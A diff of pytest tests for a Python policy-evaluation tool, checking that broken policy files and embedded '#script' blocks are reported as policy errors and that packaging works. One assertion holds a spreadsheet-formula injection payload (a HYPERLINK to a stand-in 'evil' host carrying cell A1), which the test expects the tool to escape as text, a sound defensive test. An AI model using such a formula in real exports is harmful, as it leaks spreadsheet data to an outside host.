@@ -340,6 +340,81 @@ def test_explain_finds_ids_written_with_json_escapes(tmp_path: Path) -> None:
     _located(_run("explain", "A/B", FACTS_CITY, str(twice)), "t.jsonl:2", "duplicate")
 
 
+# ---- 7. policy-file errors are policy errors, from check and evaluate alike ---------------------------------
+
+
+def _append(path: Path, data: bytes) -> None:
+    path.write_bytes(path.read_bytes() + data)
+
+
+def _replace(path: Path, old: str, new: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text, old
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+BROKEN_POLICIES = {
+    "rule file not UTF-8": (lambda p: _append(p / "rules" / "10-gate.lp", b"\n% \xff\n"), "rules/10-gate.lp:50"),
+    "parameters not UTF-8": (lambda p: _append(p / "parameters.yaml", b"\n# \xff\n"), "parameters.yaml:"),
+    "policy.yaml not UTF-8": (lambda p: _append(p / "policy.yaml", b"\n# \xff\n"), "policy.yaml:"),
+    "messages not UTF-8": (lambda p: _append(p / "messages.yaml", b"\n# \xff\n"), "messages.yaml:"),
+    "table without key_type": (
+        lambda p: _replace(
+            p / "parameters.yaml", "  key_type: string\n  value_type: symbol\n", "  value_type: symbol\n"
+        ),
+        "parameters.yaml:39",
+    ),
+    "table of a list": (
+        lambda p: _replace(p / "parameters.yaml", "  value_type: symbol\n  value: {", "  value: [1, 2]\n  old: {"),
+        "parameters.yaml:",
+    ),
+    "parameter text a string": (
+        lambda p: _replace(
+            p / "parameters.yaml",
+            "  text: {zh: 当年数据的兑付在次年开展, en: each year's data is paid out in the following year}",
+            "  text: paid in the following year",
+        ),
+        "parameters.yaml:31",
+    ),
+    "title a string": (
+        lambda p: _replace(p / "policy.yaml", "title:\n  zh:", "title: x\nold:\n  zh:"),
+        "policy.yaml:6",
+    ),
+    "clause title a string": (
+        lambda p: _replace(p / "policy.yaml", "clauses:\n", "clauses:\n  '9.9': {title: x, zh: y, en: z}\n"),
+        "clauses.9.9.title",
+    ),
+    "messages a list": (lambda p: (p / "messages.yaml").write_text("- a\n- b\n"), "messages.yaml:1"),
+    "message a string": (lambda p: _append(p / "messages.yaml", b"\nfoo/0: bar\n"), "foo/0"),
+    "empty parameters.yaml": (lambda p: (p / "parameters.yaml").write_text(""), "is not defined in parameters.yaml"),
+    "#script": (
+        lambda p: (p / "rules" / "95-s.lp").write_text("% x\n#script (python)\ndef f(): pass\n#end.\n"),
+        "rules/95-s.lp:2",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BROKEN_POLICIES))
+def test_policy_file_errors_are_policy_errors_in_check_and_evaluate(tmp_path: Path, name: str) -> None:
+    mutate, where = BROKEN_POLICIES[name]
+    pol = _copy_policy(tmp_path)
+    mutate(pol)
+    for engine in ("auto", "clingo"):
+        result = _run("evaluate", FACTS_CITY, COMPANIES, "--policy", str(pol), "--workers", "0", "--engine", engine)
+        _located(result, "政策错误 policy error", where)
+    check = _run("check", "--policy", str(pol))
+    assert check.exit_code == 1, check.output
+    assert where in check.output and "internal error" not in check.output, check.output
+
+
+def test_script_in_a_comment_or_string_is_no_script(tmp_path: Path) -> None:
+    from fuchi.policy import load_policy
+
+    pol = _copy_policy(tmp_path)
+    (pol / "rules" / "95-s.lp").write_text('% #script (python)\nnote("#script").\n')
+    load_policy(pol)
+
+
 # ---- 8. CSV cells that a spreadsheet would run ---------------------------------------------------------------
 
 
@@ -365,6 +440,52 @@ def test_csv_cells_starting_like_a_formula_are_text(tmp_path: Path) -> None:
     for r in rows:
         for key, cell in r.items():
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (key, cell)
-    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in seen and "'-2+3" in seen
+    assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in seen and "'-2+3" in seen
     json_out = _run("evaluate", FACTS_CITY, str(data), "--workers", "0", "--format", "json")
     assert {r["company"] for r in json.loads(json_out.stdout)["results"]} == set(ids)  # JSON: the data as it is
+
+
+# ---- 9. installs: the shipped policy travels inside the package -------------------------------------------
+
+
+def test_package_data_covers_every_file_of_the_shipped_policy() -> None:
+    import fnmatch
+    import tomllib
+
+    patterns = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]["fuchi"]
+    for path in sorted(SHIPPED.rglob("*")):
+        if path.is_file():
+            rel = "policies/chongming-digital-2025/" + path.relative_to(SHIPPED).as_posix()
+            assert any(fnmatch.fnmatchcase(rel, p) and rel.count("/") == p.count("/") for p in patterns), rel
+
+
+def test_installed_package_finds_its_policy_outside_any_checkout(tmp_path: Path) -> None:
+    # what `pip install .` lays out: the package with the policy as package data, no policy/ directory above it
+    import shutil
+
+    site = tmp_path / "site"
+    shutil.copytree(
+        ROOT / "src" / "fuchi", site / "fuchi", symlinks=False, ignore=shutil.ignore_patterns("__pycache__")
+    )
+    assert (site / "fuchi" / "policies" / "chongming-digital-2025" / "rules").is_dir()
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    env = dict(os.environ, PYTHONPATH=str(site))
+    code = "import sys; from fuchi.__main__ import main; sys.argv = ['fuchi'] + sys.argv[1:]; main()"
+    result = subprocess.run(
+        [sys.executable, "-c", code, "evaluate", FACTS_CITY, COMPANIES, "--format", "json", "--workers", "0"],
+        cwd=elsewhere,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
+    assert result.returncode == 0, result.stderr
+    assert '"id": "chongming-digital-2025"' in result.stdout
+    where = subprocess.run(
+        [sys.executable, "-c", "import fuchi.policy as p; print(p.default_policy_dir())"],
+        cwd=elsewhere,
+        env=env,
+        capture_output=True,
+        text=True,
+    )
+    assert where.stdout.strip().startswith(str(site)), where.stdout
